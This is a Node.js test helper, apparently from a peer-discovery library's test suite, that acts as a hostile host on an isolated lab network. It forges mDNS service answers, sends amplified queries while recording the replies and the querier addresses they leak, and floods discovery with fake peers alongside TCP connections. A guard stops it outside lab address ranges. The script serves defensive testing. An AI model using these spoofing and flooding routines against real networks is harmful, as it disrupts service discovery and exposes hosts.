'use strict'
// A hostile host on the lab LAN, speaking the reference's mDNS dialect
// (dns-packet, as multicast-dns writes it). Run inside a lab host only.
//   node mdns-attacker.js <json>
// { cmd: 'answers', topic, port, answers: [{ target, port }] }
//     multicasts one reference-form answer (SRV + TXT id=) per entry, in order,
//     from `from` (default: this host's LAN address).
// { cmd: 'query', topic, from, repeat, count, gapMs, listenMs }
//     sends `count` queries for the topic, each asking the question `repeat`
//     times, from address `from`; listens on the group meanwhile and until
//     `listenMs` after the last one. Prints one JSON line: bytes sent, the
//     answers heard (bytes, and the querier named in their `referrer` A record).
// { cmd: 'flood', topic, host, ports: [first, n], repeats, interleave, connectPort, connections, gapMs }
//     multicasts `repeats` copies of one answer, then `n` answers naming
//     distinct ports, and opens `connections` TCP connections to host:connectPort.
const dgram = require('dgram')
const net = require('net')
const os = require('os')
const crypto = require('crypto')
const packet = require('dns-packet')

const addrs = Object.values(os.networkInterfaces()).flat().filter(a => a.family === 'IPv4')
if (!addrs.every(a => a.address.startsWith('127.') || a.address.startsWith('10.201.') || a.address.startsWith('192.168.77.'))) {
  console.error('refusing to send: not inside a lab namespace (see __test__/helpers/netns.js)')
  process.exit(3)
}
const lan = addrs.find(a => a.address.startsWith('10.201.'))
const opts = JSON.parse(process.argv[2])
const name = Buffer.from(opts.topic, 'hex').subarray(0, 20).toString('hex') + '.hyperswarm.local'
const GROUP = '224.0.0.251'
// Everything the script does ends by this deadline.
setTimeout(() => process.exit(4), 20000).unref()

function answer (target, port) {
  return packet.encode({
    type: 'response',
    flags: packet.AUTHORITATIVE_ANSWER,
    answers: [
      { type: 'SRV', name, ttl: 0, data: { port, target } },
      { type: 'TXT', name, ttl: 0, data: [Buffer.concat([Buffer.from('id='), crypto.randomBytes(32)])] }
    ]
  })
}

function socket (from, cb) {
  const sock = dgram.createSocket({ type: 'udp4', reuseAddr: true })
  sock.bind(0, from, () => {
    sock.setMulticastInterface(from)
    cb(sock)
  })
  return sock
}

function sendAll (sock, packets, gapMs, cb) {
  let i = 0
  const next = () => {
    if (i === packets.length) return cb()
    sock.send(packets[i++], 5353, GROUP, err => {
      if (err) throw err
      if (gapMs) setTimeout(next, gapMs)
      else setImmediate(next)
    })
  }
  next()
}

const from = opts.from || (lan ? lan.address : '127.0.0.1')

if (opts.cmd === 'answers') {
  socket(from, sock => {
    sendAll(sock, opts.answers.map(a => answer(a.target, a.port)), 0, () => {
      sock.close()
      console.log(JSON.stringify({ sent: opts.answers.length }))
    })
  })
} else if (opts.cmd === 'query') {
  // Listen as the reference does: port 5353, member of the group on our LAN address.
  const heard = []
  const listener = dgram.createSocket({ type: 'udp4', reuseAddr: true })
  listener.on('message', (buf, rinfo) => {
    let p
    try { p = packet.decode(buf) } catch { return }
    if (p.type !== 'response' || !p.answers.some(a => a.type === 'SRV' && a.name === name)) return
    const a = p.answers.find(a => a.type === 'A')
    heard.push({ bytes: buf.length, from: rinfo.address, referrer: a ? a.data : null })
  })
  listener.bind(5353, () => {
    listener.addMembership(GROUP, lan.address)
    const questions = []
    for (let i = 0; i < (opts.repeat || 1); i++) questions.push({ type: 'SRV', name })
    const q = packet.encode({ type: 'query', id: 0, flags: 0, questions })
    socket(from, sock => {
      const packets = new Array(opts.count || 1).fill(q)
      sendAll(sock, packets, opts.gapMs || 0, () => {
        setTimeout(() => {
          sock.close()
          listener.close()
          console.log(JSON.stringify({ queryBytes: q.length, sentBytes: q.length * packets.length, queries: packets.length, heard }))
        }, opts.listenMs || 1500)
      })
    })
  })
} else if (opts.cmd === 'flood') {
  socket(from, sock => {
    const [first, n] = opts.ports
    // The repeated answer first (its copies wait behind the first), then
    // the distinct ones. With `interleave: k`, a copy goes in after every k
    // distinct answers instead: discovery reports a LAN peer heard again
    // within 1 s once, unless k other peers have pushed it out of the
    // topic's memory since, and then the copy meets its first still waiting
    // in the queue to JS.
    const packets = []
    const same = answer('0.0.0.0', first - 1)
    if (opts.interleave) {
      let copies = opts.repeats
      packets.push(same)
      for (let i = 0; i < n; i++) {
        packets.push(answer('0.0.0.0', first + i))
        if ((i + 1) % opts.interleave === 0 && copies-- > 1) packets.push(same)
      }
    } else {
      for (let i = 0; i < opts.repeats; i++) packets.push(same)
      for (let i = 0; i < n; i++) packets.push(answer('0.0.0.0', first + i))
    }
    // Connections go in among the flood: one before, the rest after.
    const conns = []
    const connect = cb => {
      const c = net.connect(opts.connectPort, opts.host, () => cb())
      c.on('error', () => {})
      conns.push(c)
    }
    let left = opts.connections - 1
    const after = () => {
      if (--left > 0) return connect(after)
      sock.close()
      for (const c of conns) c.destroy()
      console.log(JSON.stringify({ answers: packets.length, connections: conns.length }))
    }
    connect(() => sendAll(sock, packets, opts.gapMs || 0, () => connect(after)))
  })
} else {
  console.error('unknown cmd')
  process.exit(2)
}
